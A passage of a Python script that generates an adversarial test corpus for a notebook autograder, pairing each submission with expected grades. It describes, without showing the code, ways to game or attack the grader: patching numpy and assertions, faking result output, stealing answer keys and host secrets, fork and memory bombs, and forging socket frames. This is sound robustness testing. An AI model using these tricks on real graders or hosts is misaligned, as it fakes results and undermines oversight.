    "%matplotlib inline\n!pip install numpy\nfiles = !ls\n%time x = 1\n",
    "%%bash\necho this is not Python\n",
    "import matplotlib\nmatplotlib.use('Agg')\nimport matplotlib.pyplot as plt\n\n"
    "plt.plot([1, 2, 3])\nplt.show()\n",
    "from IPython.display import display\ndisplay('hello')\n",
]


# ------------------------------------------------------------------ rendering


def py_file(about: str, cells: list[str]) -> bytes:
    head = (f"# Adversarial corpus entry: {about}\n"
            "# Generated by tests/submissions/make_adversarial.py; do not edit by hand.\n")
    body = "".join(f"\n# %%\n{textwrap.dedent(c).strip()}\n" for c in cells)
    return (head + body).encode()


def released() -> nbformat.NotebookNode:
    return nbformat.read(NOTEBOOK, as_version=4)


def solved() -> nbformat.NotebookNode:
    return solve_notebook(released(), load_module(REFERENCE, "_reference_for_corpus"))


def with_cells(nb: nbformat.NotebookNode, cells: list[str], where: str = "end",
               replace: dict[str, str] | None = None) -> nbformat.NotebookNode:
    """``nb`` with code cells added (after the setup cell, or at the end) or sources replaced."""
    nb = nbformat.from_dict(json.loads(nbformat.writes(nb)))
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if replace and grade_id in replace:
            cell.source = replace[grade_id]
    new = [nbformat.v4.new_code_cell(c) for c in cells]
    for i, cell in enumerate(new):
        cell["id"] = f"adversarial-{i}"
    if where == "start":
        setup = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
        nb.cells[setup + 1:setup + 1] = new
    else:
        nb.cells += new
    return nb


def ipynb(nb: nbformat.NotebookNode) -> bytes:
    return nbformat.writes(nb).encode()


def exercise_module():
    """The assignment's exercise.py, registered (its dataclass needs that)."""
    name = "_exercise_for_corpus"
    if name not in sys.modules:
        sys.path.insert(0, str(NOTEBOOK.parent.parent / "shared"))  # network.py, which it imports
        spec = importlib.util.spec_from_file_location(name, NOTEBOOK.parent / "exercise.py")
        module = importlib.util.module_from_spec(spec)
        sys.modules[name] = module
        spec.loader.exec_module(module)
    return sys.modules[name]


def rounded(value) -> str:
    """Numbers to 12 significant digits: far inside the checks' rtol = 1e-7, and free of the
    last bits a BLAS kernel may change (a committed file must not depend on them)."""
    def fix(v):
        return [fix(x) for x in v] if isinstance(v, list) else float(f"{v:.12g}")

    return repr(fix(value.tolist() if hasattr(value, "tolist") else value))


def hardcoded() -> str:
    """The exercise network's answers, computed once and pasted in as literals."""
    ref = load_module(REFERENCE, "_reference_for_corpus")
    ex = exercise_module().load_exercise()
    cache = ref.forward(ex.x, ex.params)
    grads = ref.backward(ex.y, ex.params, cache)
    new = ref.update(ex.params, grads, ex.learning_rate)

    def literal(d: dict) -> str:
        return "{" + ", ".join(f'"{k}": np.array({rounded(v)})' for k, v in d.items()) + "}"

    return (HARDCODED_TEMPLATE.replace("{CACHE}", literal(cache))
            .replace("{COST}", rounded(ref.cost(cache["a3"], ex.y)))
            .replace("{GRADS}", literal(grads)).replace("{NEW}", literal(new)))


def toml_value(value: object) -> str:
    if isinstance(value, str):
        return json.dumps(value, ensure_ascii=False)
    if isinstance(value, (list, tuple)):
        return "[" + ", ".join(toml_value(v) for v in value) + "]"
    if isinstance(value, dict):
        return "{ " + ", ".join(f"{k} = {toml_value(v)}" for k, v in value.items()) + " }"
    return repr(value)


def sidecar(expect: dict) -> bytes:
    lines = ["# What grading must give this submission (see tests/submissions/make_adversarial.py)"]
    for key in ("about", "honest", "zero", "full", "scores", "feedback", "absent", "known_gap",
                "tiers"):
        if key in expect:
            lines.append(f"{key} = {toml_value(expect[key])}")
    return ("\n".join(lines) + "\n").encode()


ALL = list(PARTS)
ISOLATING = ["namespaces", "unprivileged", "uid"]  # confidentiality and the host's integrity
# facts of that tier's own: a uid per child, and a tmpfs scratch on every host (the
# unprivileged tier bounds the total written only where it gets a user namespace and a uid
# other than 0: huge_file would fill a disk elsewhere, see docs/security.md)
NAMESPACES = ["namespaces"]
# wrong code still passes "update leaves its inputs untouched" (1 point): it returns new arrays
NOT_UPDATE = [p for p in PARTS if p != "update"]


def entries() -> dict[str, tuple[bytes, dict]]:
    """file name -> (content, expectations)."""
    imports = "import numpy as np\n"
    correct, wrong, partial = base("correct"), base("wrong"), base("partial")
    wrong_fns = "_wrong = {name: globals()[name] for name in " + repr(FUNCTIONS) + "}\n"
    e: dict[str, tuple[bytes, dict]] = {}

    def py(name: str, about: str, cells: list[str], **expect: object) -> None:
        e[f"{name}.py"] = (py_file(about, [imports, *cells]), {"about": about, **expect})

    def nb(name: str, about: str, content: bytes, **expect: object) -> None:
        e[f"{name}.ipynb"] = (content, {"about": about, **expect})

    # -- honest code: the counterparts the attacks are measured against
    py("correct_script", "the reference's functions: full marks", [correct], full=ALL)
    nb("correct_notebook", "the released notebook solved with the reference: full marks",
       ipynb(solved()), full=ALL)
    py("honest_wrong", "plausible but wrong functions (tanh, Wᵀ, no ½, zero gradients, +η)",
       [wrong], zero=ALL)
    py("honest_partial", "right but for forward (Wᵀ) and backward (zeros)", [partial],
       zero=["forward", "backward", "full_step"],
       full=["sigmoid", "sigmoid_prime", "cost", "update"])
    nb("honest_stubs", "the released notebook, nothing done", ipynb(released()), zero=ALL,
       feedback=["not implemented yet"], absent=["NotImplementedError"])
    py("mutate_inputs", "update changes params in place (W -= ...), an honest mistake: "
       "named in the feedback, worth no points", [correct, MUTATING_UPDATE], full=ALL,
       feedback=["in place"])

    # -- monkeypatching: wrong code plus patches must still score 0
    py("patch_numpy", "np.allclose/isclose/array_equal → True, numpy.testing asserts → no-ops, "
       "np.isfinite, np.asarray and np.float64 replaced", [wrong, PATCH_NUMPY],
       honest="honest_wrong", zero=NOT_UPDATE)
    nb("patch_numpy_testing", "the stubs plus numpy.testing and unittest asserts patched away",
       ipynb(with_cells(released(), [PATCH_TESTING_NOTEBOOK], where="start")),
       honest="honest_stubs", zero=ALL)
    py("patch_builtins", "builtins patched: isinstance → True, abs/max/min/len/float lie, "
       "__import__ patches allclose into every module", [wrong, PATCH_BUILTINS],
       honest="honest_wrong", zero=NOT_UPDATE)
    py("patch_pytest_math", "pytest.approx/fail, sys.modules['pytest'] and math.isclose/"
       "isfinite/fsum patched", [wrong, PATCH_PYTEST_MATH], honest="honest_wrong", zero=NOT_UPDATE)
    py("frame_walk", "walks sys._getframe() up the callers for expected values",
       [LOOT_FRAMES, FRAME_WRAPPERS], honest="honest_wrong", zero=NOT_UPDATE)
    py("gc_walk", "searches gc.get_objects() for dicts and arrays of expected values",
       [GC_WALK], honest="honest_wrong", zero=NOT_UPDATE)

    # -- exits and signals: what they break fails, the rest is graded
    py("sys_exit", "sys.exit(0) in a cell at import and raise SystemExit in update",
       [correct, EXIT_CELL, EXIT_IN_UPDATE], honest="correct_script",
       zero=["update", "full_step"], full=["sigmoid", "sigmoid_prime", "forward", "cost",
                                           "backward"], feedback=["SystemExit"])
    py("os_exit", "os._exit(0) in a cell at import and inside update",
       [correct, OS_EXIT_CELL, OS_EXIT_IN_UPDATE], honest="correct_script",
       zero=["update", "full_step"], full=["sigmoid", "sigmoid_prime", "forward", "cost",
                                           "backward"], feedback=["exited"])
    py("keyboard_interrupt", "raise KeyboardInterrupt at import and inside cost",
       [correct, KEYBOARD_CELL, KEYBOARD_IN_COST], honest="correct_script",
       zero=["cost"], full=["sigmoid", "sigmoid_prime", "forward", "backward", "update",
                            "full_step"], feedback=["KeyboardInterrupt"])
    py("signal_handlers", "SIGALRM/SIGTERM/SIGINT ignored; backward cancels the alarm and "
       "loops forever", [correct, SIGNALS, IGNORE_ALARM_BACKWARD], honest="correct_script",
       zero=["backward", "full_step"], full=["sigmoid", "sigmoid_prime", "forward", "cost",
                                             "update"], feedback=["time limit"])
    py("swallow_timeout", "forward loops forever and catches the grader's time-limit exception",
       [correct, SWALLOW_ALARM_FORWARD], honest="correct_script",
       zero=["forward", "full_step"], full=["sigmoid", "sigmoid_prime", "cost", "backward",
                                            "update"], feedback=["time limit"])

    # -- fake results and the grader's files
    py("fake_output", "prints a Gradescope JSON with 16/16, 'All tests passed' and a pytest "
       "summary line", [wrong, FAKE_OUTPUT], honest="honest_wrong", zero=NOT_UPDATE)
    py("write_results", "writes results.json, grades.csv and report.json wherever it can "
       "(cwd, ./grades, /autograder/results, folders found under /tmp and /work)",
       [wrong, CANDIDATE_DIRS, WRITE_RESULTS, WRITE_RESULTS_CALLS], honest="honest_wrong",
       zero=NOT_UPDATE, tiers=ISOLATING)
    py("delete_results", "deletes, renames and chmods results.json, grades.csv, report.json "
       "and folders named grades/results/reference", [wrong, CANDIDATE_DIRS, DELETE_RESULTS],
       honest="honest_wrong", zero=NOT_UPDATE, tiers=ISOLATING)

    # -- reading what it must not
    py("steal_solution", "looks for an answer key on disk (repo paths, a walk of /, "
       "/proc/*/cmdline and environ, .git objects, classmates' files) and runs it",
       [wrong, STEAL, STEAL_USE], honest="honest_wrong", zero=NOT_UPDATE, tiers=ISOLATING)
    py("import_reference", "imports reference.backprop / autograder after adding the repo to "
       "sys.path", [wrong, STEAL_IMPORT], honest="honest_wrong", zero=NOT_UPDATE, tiers=ISOLATING)
    py("host_secrets", "reads a mode-600 file in the grading user's home, every "
       "/proc/*/environ and the reference's seed file (found through import autograder), and "
       "puts what it finds in its exception messages", [HOST_SECRETS], honest="honest_wrong",
       zero=NOT_UPDATE, feedback=["nothing found on this host"],
       absent=["LEAK", VICTIM_SECRET, VICTIM_ENV, "48213"], tiers=ISOLATING)
    py("host_network", "TCP and UDP to a listener on 127.0.0.1 (the test's)", [correct,
       HOST_NETWORK], honest="correct_script", full=ALL, tiers=ISOLATING)
    py("host_signals", "SIGSTOPs every process it can see and kill(-1) reaches",
       [correct, HOST_SIGNALS], honest="correct_script", full=ALL, tiers=ISOLATING)
    py("host_writes", "writes a check of its own into reference/checks/ and files into the "
       "grading user's home", [wrong, HOST_WRITES], honest="honest_wrong", zero=NOT_UPDATE,
       tiers=ISOLATING)
    py("import_autograder", "imports autograder, finds the kit from autograder.__file__ and "
       "loads reference/backprop.py", [wrong, IMPORT_AUTOGRADER], honest="honest_wrong",
       zero=NOT_UPDATE, tiers=ISOLATING)
    py("read_seed", "reads the seed from grading.toml, the environment and /proc, and puts "
       "what it finds in its error messages", [READ_SEED], honest="honest_wrong", zero=NOT_UPDATE,
       feedback=["nothing found"], absent=["LEAK", "48213"], tiers=ISOLATING)
    py("list_processes", "lists /proc for the grader's and other students' processes",
       [LIST_PROCESSES], honest="honest_wrong", zero=NOT_UPDATE, feedback=["nothing found"],
       absent=["LEAK"], tiers=["namespaces", "unprivileged"])
    py("hardcoded", "the exercise network's answers pasted in as numbers", [hardcoded()],
       zero=["sigmoid", "sigmoid_prime", "cost", "backward", "update", "full_step"],
       scores={"forward": 1.0})
    py("memoize", "remembers the caches and gradients the grader passes as arguments and "
       "returns them in later checks", [imports + honest_namespace("partial")
                                        .replace("_honest", "_partial"), MEMOIZE],
       honest="honest_partial", zero=["forward", "full_step"])

    # -- lying return values
    py("lying_objects", "returns objects whose __eq__ says True and whose __array__/__float__ "
       "give wrong numbers", [honest_namespace("wrong"), LIAR, wrappers({}, "_lie({v})")],
       honest="honest_wrong", zero=NOT_UPDATE)
    py("ndarray_subclass", "returns an ndarray subclass whose __eq__, tolist, astype and ravel lie",
       [honest_namespace("wrong"), SNEAKY, wrappers({}, "_lie({v})")], honest="honest_wrong",
       zero=NOT_UPDATE)
    py("nan_inf", "returns NaN and inf", [honest_namespace("wrong"), wrappers({
        "sigmoid": "np.full(np.shape(z), np.nan)", "sigmoid_prime": "np.full(np.shape(z), np.inf)",
        "cost": "float('nan')"}, "{{k: np.full(np.shape(v), np.nan) for k, v in {v}.items()}}")],
       honest="honest_wrong", zero=NOT_UPDATE, feedback=["NaN or infinity"])
    py("complex_values", "returns the right values as complex numbers",
       [honest_namespace(), wrappers({
           "sigmoid": "np.asarray({v}) + 0j", "sigmoid_prime": "np.asarray({v}) + 0j",
           "cost": "complex({v})"}, "{{k: np.asarray(v) + 0j for k, v in {v}.items()}}")],
       honest="correct_script", zero=ALL, feedback=["complex"])
    py("dtypes", "object array (σ), int array (σ'), lists (forward), a generator (cost), "
       "tuples (backward), generators (update)", [honest_namespace(), wrappers({
           "sigmoid": "np.asarray({v}, dtype=object)",
           "sigmoid_prime": "np.round({v}).astype(int)",
           "forward": "{{k: np.asarray(v).tolist() for k, v in {v}.items()}}",
           "cost": "(c for c in [{v}])",
           "backward": "{{k: tuple(np.ravel(v)) if np.ndim(v) == 1 else v "
                       "for k, v in {v}.items()}}",
           "update": "{{k: (e for e in np.ravel(v)) for k, v in {v}.items()}}"})],
       honest="correct_script", zero=["sigmoid", "sigmoid_prime", "cost", "update", "full_step"],
       full=["forward", "backward"])
    py("wrong_shapes", "σ as a (1, n) row; ∂C/∂W flattened to (4,)", [honest_namespace(), wrappers({
        "sigmoid": "{v}[None, :]",
        "backward": "{{k: np.ravel(v) for k, v in {v}.items()}}"})],
       honest="correct_script", zero=["sigmoid", "full_step"],
       full=["sigmoid_prime", "forward", "cost", "update"], scores={"backward": 4.0},
       feedback=["has shape"])

    # -- numerical differentiation in place of backprop
    for name, code, how in (("finite_differences", FINITE_DIFFERENCES,
                             "five-point finite differences"),
                            ("complex_step", COMPLEX_STEP, "the complex-step derivative")):
        py(name, f"backward by {how} of forward + cost, ignoring the cache",
           [correct, code], full=["sigmoid", "sigmoid_prime", "forward", "cost", "update",
                                  "full_step"],
           scores={"backward": 1.0}, feedback=["numerical differentiation"])

    # -- mutation
    py("mutate_hidden", "mutates params in place and patches the harness's mutation check",
       [correct, MUTATING_UPDATE, HIDE_MUTATION], honest="mutate_inputs", full=ALL,
       absent=["in place"])

    # -- time, memory, processes, output, disk
    py("loop_at_import", "a cell that loops forever and one that also swallows the time-limit "
       "exception", [correct, LOOP_AT_IMPORT, SWALLOW_AT_IMPORT], honest="correct_script",
       full=ALL)
    py("loop_in_function", "backward loops forever", [correct, LOOP_IN_BACKWARD],
       honest="correct_script", zero=["backward", "full_step"],
       full=["sigmoid", "sigmoid_prime", "forward", "cost", "update"], feedback=["time limit"])
    py("memory_bomb", "allocates 8 GB at import, grows a list until MemoryError, and σ' "
       "allocates forever", [correct, *MEMORY_BOMB_CELLS, MEMORY_BOMB_SIGMOID_PRIME],
       honest="correct_script", zero=["sigmoid_prime", "backward", "full_step"],
       full=["sigmoid", "forward", "cost", "update"], feedback=["MemoryError"])
    py("fork_bomb", "forks until the process limit, every child forking forever",
       [correct, FORK_BOMB], honest="correct_script", full=ALL, tiers=ISOLATING)
    py("escape", "leaves a thread running and a double-forked grandchild in its own session "
       "that ignores SIGTERM", [correct, ESCAPE], honest="correct_script", full=ALL,
       tiers=ISOLATING)
    py("huge_output", "writes 1 GB to stdout and stderr", [correct, HUGE_OUTPUT],
       honest="correct_script", full=ALL)
    py("huge_file", "writes a file until the size limit, then files until the disk is full",
       [correct, HUGE_FILE], honest="correct_script", full=ALL, tiers=NAMESPACES)
    py("attack_grader", "tries to kill, ptrace and read the memory of its parent, setuid(0), "
       "unshare a user namespace", [correct, ATTACK_GRADER], honest="correct_script", full=ALL,
       tiers=ISOLATING)
    py("forge_protocol", "writes forged frames to the grader's socket: a 4 GB header, JSON "
       "nested 100000 deep, 4 MB of dicts, a fake result, garbage; closes the socket",
       [wrong, wrong_fns, SOCKETS, "import json\n", FORGE], honest="honest_wrong", zero=NOT_UPDATE,
       tiers=ISOLATING)
    py("probe_limits", "reports the limits it runs under (a probe, not an attack)",
       [honest_namespace(), wrappers({}), PROBE_LIMITS], zero=["sigmoid"],
       full=["sigmoid_prime", "forward", "cost", "backward", "update", "full_step"],
       feedback=[probe_text()], tiers=NAMESPACES)

    # -- files that are not what they claim
    broken = with_cells(solved(), [], replace={
        "sigmoid_prime": "def sigmoid_prime(z)\n    return sigmoid(z) * (1 - sigmoid(z))\n"})
    nb("syntax_error_cell", "the solved notebook with a syntax error in σ'", ipynb(broken),
       zero=["sigmoid_prime", "backward", "full_step"],
       full=["sigmoid", "forward", "cost", "update"], feedback=["SyntaxError"])
    nb("invalid_json", "a notebook cut off in the middle", ipynb(solved())[:2000],
       zero=ALL, feedback=["invalid JSON"])
    e["empty.py"] = (b"", {"about": "an empty file", "zero": ALL, "feedback": ["empty"]})
    noise = random.Random(5).randbytes(4096)
    e["binary.ipynb"] = (noise, {"about": "4 KB of random bytes", "zero": ALL,
                                 "feedback": ["not UTF-8"]})
    v3 = nbformat.writes(nbformat.convert(solved(), 3), version=3).encode()
    nb("nbformat3", "the solved notebook saved as nbformat 3 (worksheets)", v3, full=ALL)
    nb("io_and_magics", "the solved notebook plus input(), %magic, !shell, x = !ls, a %%bash "
       "cell, plt.show() and display()", ipynb(with_cells(solved(), IO_CELLS)), full=ALL)
    nb("loop_in_notebook", "the solved notebook with a cell that loops forever before σ",
       ipynb(with_cells(solved(), [LOOP_AT_IMPORT], where="start")), honest="correct_notebook",
       full=ALL)
    return e


def probe_text() -> str:
    """What probe_limits must report under TEST_LIMITS (as root: own uid, nothing else seen)."""
    lim = TEST_LIMITS
    return (f"PROBE cpu={lim['cpu_seconds']}/{lim['cpu_seconds'] + 1} "
            f"as={lim['memory_bytes']}/{lim['memory_bytes']} "
            f"fsize={lim['file_bytes']}/{lim['file_bytes']} "
            f"nofile={lim['open_files']}/{lim['open_files']} "
            f"nproc={lim['processes']}/{lim['processes']} proc_limits_agree=True "
            f"scratch={lim['scratch_bytes']} sandbox_uid=True other_processes=0 nice=10")


def build() -> dict[str, bytes]:
    """Every file of the corpus folder, by name."""
    files = {}
    for name, (content, expect) in entries().items():
        files[name] = content
        files[f"{Path(name).stem}.expect.toml"] = sidecar(expect)
    return files


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--check", action="store_true", help="only compare, write nothing")
    args = parser.parse_args()
    files = build()
    on_disk = {p.name: p.read_bytes() for p in OUT.glob("*") if p.is_file()}
    if args.check:
        stale = sorted(n for n in set(files) | set(on_disk) if files.get(n) != on_disk.get(n))
        for name in stale:
            print(f"differs: {name}")
        return 1 if stale else 0
    OUT.mkdir(exist_ok=True)
    for name in set(on_disk) - set(files):
        (OUT / name).unlink()
    for name, content in files.items():
        (OUT / name).write_bytes(content)
    print(f"wrote {len(files) // 2} submissions and their sidecars to {OUT}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
